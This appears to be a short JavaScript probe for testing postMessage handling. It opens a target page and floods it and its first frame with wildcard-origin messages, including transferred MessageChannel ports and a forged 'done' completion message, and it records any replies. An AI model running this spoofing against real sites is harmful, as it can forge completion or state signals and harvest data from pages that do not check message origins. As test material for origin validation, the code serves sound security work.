async (url) => {
  const heard = (globalThis.heard = []);
  const page = (globalThis.page = window.open(url));
  setInterval(() => {
    for (const window of page.length ? [page, page[0]] : [page]) {
      const script = new Blob(["onmessage = ({ports: [mine]}) => mine.postMessage('mine')"]);
      const channels = [new MessageChannel(), new MessageChannel()];
      for (const { port1 } of channels) port1.onmessage = ({ data }) => heard.push(data);
      window.postMessage(
        script,
        "*",
        channels.map(({ port2 }) => port2),
      );
      window.postMessage({ kind: "done", answer: { unusable: "forged" }, spent: false }, "*");
    }
  }, 10);
};
